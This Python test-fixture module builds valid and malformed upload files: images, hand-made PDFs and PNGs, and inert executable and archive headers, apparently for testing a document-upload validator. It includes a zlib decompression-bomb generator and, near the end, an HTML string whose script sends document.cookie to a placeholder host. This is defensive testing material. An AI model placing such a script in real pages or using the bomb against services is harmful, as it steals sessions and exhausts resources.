"""What good and bad files are put together from, the same bytes each time."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping
from functools import cache

import pillow_heif
from PIL import Image
from reportlab.pdfgen.canvas import Canvas

FORMATS = ("JPEG", "PNG", "WEBP", "HEIF")
PNG_START = b"\x89PNG\r\n\x1a\n"


def drawing(size: tuple[int, int] = (90, 120), mode: str = "RGB") -> Image.Image:
    """A picture that is light above and dark below, with a red corner at the upper left."""
    image = Image.linear_gradient("L").transpose(Image.Transpose.ROTATE_180).resize(size).convert("RGB")
    image.paste((220, 20, 20), (0, 0, size[0] // 4, size[1] // 4))
    return image.convert(mode)


def saved(image: Image.Image, form: str, **options: object) -> bytes:
    if form == "HEIF":
        pillow_heif.register_heif_opener()
    written = io.BytesIO()
    image.save(written, form, **options)
    return written.getvalue()


@cache
def picture(form: str, size: tuple[int, int] = (90, 120), mode: str = "RGB") -> bytes:
    return saved(drawing(size, mode), form)


@cache
def pdf(pages: int = 1, words: str = "Comprovante de residência") -> bytes:
    written = io.BytesIO()
    canvas = Canvas(written, invariant=1)
    for number in range(1, pages + 1):
        canvas.drawString(72, 700, f"{words}, folha {number}")
        canvas.showPage()
    canvas.save()
    return written.getvalue()


def good() -> dict[str, bytes]:
    """One file of each type that is taken."""
    return {"pdf": pdf(), **{form.lower(): picture(form) for form in FORMATS}}


# --- a PDF by hand -----------------------------------------------------------------------------------------------


def stream(content: bytes, entries: bytes = b"", *, packed: bool = False) -> bytes:
    if packed:
        content, entries = zlib.compress(content), entries + b"/Filter/FlateDecode"
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def raw_pdf(objects: Mapping[int, bytes], trailer: bytes = b"", version: bytes = b"1.7") -> bytes:
    """The objects with a correct cross-reference table; 1 is the catalog."""
    written = bytearray(b"%%PDF-%s\n%%\xe2\xe3\xcf\xd3\n" % version)
    places = {}
    for number, body in objects.items():
        places[number] = len(written)
        written += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(written)
    size = max(objects) + 1
    written += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        written += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    written += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, table)
    return bytes(written)


def page_with(
    content: bytes = b"", *, catalog: bytes = b"", page: bytes = b"", resources: bytes = b"",
    others: Mapping[int, bytes] | None = None, box: bytes = b"0 0 595 842",
) -> bytes:  # fmt: skip
    """A PDF of one page with what is to be odd about it; objects from 5 on are `others`."""
    return raw_pdf({
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Resources<<%s>>/Contents 4 0 R%s>>" % (box, resources, page),
        4: content if content.startswith(b"<<") else stream(content),
        **(others or {}),
    })  # fmt: skip


def packed_objects(objects: Mapping[int, bytes], *, spelt: bool = False) -> bytes:
    """A PDF 1.5 whose dictionaries stand in one compressed object stream, found by a cross-reference stream.

    `spelt`: packed and then written in hexadecimal digits.
    """
    inside = list(objects.items())
    bodies, index, at = b"", b"", 0
    for number, body in inside:
        index += b"%d %d " % (number, at)
        bodies += body + b" "
        at = len(bodies)
    holder, table = max(objects) + 1, max(objects) + 2
    written = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    place = len(written)
    entries = b"/Type/ObjStm/N %d/First %d" % (len(inside), len(index))
    packed = stream(index + bodies, entries, packed=True)
    if spelt:
        digits = zlib.compress(index + bodies).hex().encode() + b">"
        packed = stream(digits, entries + b"/Filter[/ASCIIHexDecode/FlateDecode]")
    written += b"%d 0 obj\n%s\nendobj\n" % (holder, packed)
    start = len(written)
    rows = {0: (0, 0, 255), holder: (1, place, 0), table: (1, start, 0)}
    rows |= {number: (2, holder, order) for order, (number, _) in enumerate(inside)}
    cells = b"".join(struct.pack(">BIB", *rows.get(number, (0, 0, 0))) for number in range(table + 1))
    entries = b"/Type/XRef/Size %d/W[1 4 1]/Root 1 0 R" % (table + 1)
    written += b"%d 0 obj\n%s\nendobj\n" % (table, stream(cells, entries, packed=True))
    return bytes(written + b"startxref\n%d\n%%%%EOF\n" % start)


# --- a PNG by hand -----------------------------------------------------------------------------------------------


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def raw_png(
    width: int, height: int, pixels: bytes, before: Iterable[bytes] = (), *, depth: int = 8, colour: int = 0
) -> bytes:
    """A PNG of this header, grey where no `colour` is named; `pixels` is IDAT's content, `before` what precedes it."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return PNG_START + header + b"".join(before) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@cache
def inflating(megabytes: int, filled: bytes = b"\0") -> bytes:
    """A zlib stream that grows a thousandfold: one packed block, again and again."""
    plain = filled * (1024 * 1024 // len(filled))
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(plain) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(megabytes):
        check = zlib.adler32(plain, check)
    return b"\x78\xda" + block * megabytes + b"\x03\0" + struct.pack(">I", check)


# --- guests ------------------------------------------------------------------------------------------------------


def archive(files: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as folder:
        for name, content in files.items():
            folder.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, method)
    return written.getvalue()


def elf() -> bytes:
    return (
        b"\x7fELF\x02\x01\x01"
        + bytes(9)
        + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
        + bytes(120)
    )


def windows() -> bytes:
    stub = b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\x01L\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    head = b"MZ" + bytes(58) + struct.pack("<I", 0x80) + stub
    return head.ljust(0x80, b"\0") + b"PE\0\0\x64\x86\x01\0" + bytes(200)


def mac() -> bytes:
    return b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0" + bytes(100)


def java() -> bytes:
    return b"\xca\xfe\xba\xbe\0\0\0\x41" + bytes(80)


def jar() -> bytes:
    return archive({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": java()})


PAGE = b"<!DOCTYPE html><html><body><script>fetch('//example.invalid/'+document.cookie)</script></body></html>"
SEVEN = b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(40)
RAR = b"Rar!\x1a\x07\x01\0" + bytes(40)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
